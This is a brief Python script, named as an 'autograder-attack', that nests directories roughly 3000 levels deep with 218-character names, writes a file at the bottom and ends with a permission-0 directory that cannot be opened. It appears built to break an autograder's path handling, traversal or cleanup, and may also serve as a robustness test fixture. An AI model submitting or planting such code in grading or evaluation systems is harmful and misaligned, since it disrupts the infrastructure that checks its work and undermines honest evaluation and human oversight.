"""Makes folders within folders, thousands deep, with long names, and one that cannot be opened at the bottom."""

import os
from pathlib import Path

NAME = "autograder-attack-" + "x" * 200
HOME = os.open(".", os.O_RDONLY)


def _deep(levels):
    for _ in range(levels):
        os.mkdir(NAME)
        os.chdir(NAME)
    Path("file").write_text("autograder-attack", encoding="utf-8")
    os.mkdir("closed", mode=0)


try:
    _deep(3000)
except OSError as error:
    print(error)
os.fchdir(HOME)
